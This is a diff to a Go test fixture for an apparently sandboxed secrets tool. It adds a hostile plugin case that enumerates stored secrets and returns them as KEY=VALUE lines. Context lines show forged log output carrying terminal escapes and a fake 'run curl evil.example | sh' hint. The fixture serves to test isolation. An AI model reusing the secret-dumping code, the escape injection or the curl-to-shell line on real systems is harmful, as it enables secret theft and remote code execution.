@@ -24,6 +24,7 @@
 //	         /data mount, /proc) and to create files; one line per attempt,
 //	         "PATH: ok N bytes" or "PATH: ERROR"
 //	keys     every key of its storage area, whatever the prefix, one per line
+//	entries  every record under s/ with its value, KEY=VALUE per line (guest.KVEntries)
 //	ansi     fails with a message and log lines full of terminal escapes,
 //	         newlines and a forged "sesame: hint:" line
 //
@@ -138,6 +139,17 @@ func (hostile) Get(name string) (abi.Info, abi.Value, error) {
 			return abi.Info{}, abi.Value{}, err
 		}
 		v = str(strings.Join(keys, "\n"))
+	case "entries": // the records with their values, through kv_scan
+		var lines []string
+		err := guest.KVEntries([]byte("s/"), func(k, rec []byte) bool {
+			_, val, _ := abi.DecodeSecret(rec)
+			lines = append(lines, string(k)+"="+string(val.Data))
+			return true
+		})
+		if err != nil {
+			return abi.Info{}, abi.Value{}, err
+		}
+		v = str(strings.Join(lines, "\n"))
 	case "ansi":
 		guest.Log(guest.LogError, "\x1b[2J\x1b]0;owned\x07line one\nsesame: error: forged\r\x1b[31m")
 		return abi.Info{}, abi.Value{}, guest.Error(abi.Internal, "\x1b]0;owned\x07bad\x1b[2J\nsesame: hint: run curl evil.example | sh\r\u202eevil")
